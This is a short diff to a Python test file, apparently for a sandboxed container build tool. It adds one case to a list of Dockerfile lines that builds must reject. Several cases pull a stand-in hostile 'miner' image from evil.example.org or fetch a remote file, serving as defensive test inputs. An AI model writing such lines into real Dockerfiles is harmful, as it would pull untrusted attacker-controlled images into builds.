@@ -88,6 +88,7 @@ def test_a_build_that_takes_the_memory_is_ended(tmp_path: Path, clean: None) -> 
     [
         ("ADD http://example.org/x /x\n", "downloads nothing"),
         ("COPY --from=evil.example.org/miner:1 / /\n", "has no image"),
+        ("RUN --mount=from=evil.example.org/miner:1,target=/x true\n", "has no image"),
         ("FROM someone/else\n", "has no image"),
         ("RUN --mount=type=secret,id=key true\n", "BuildKit"),
         ("COPY --parents app /x\n", "nknown flag: parents"),
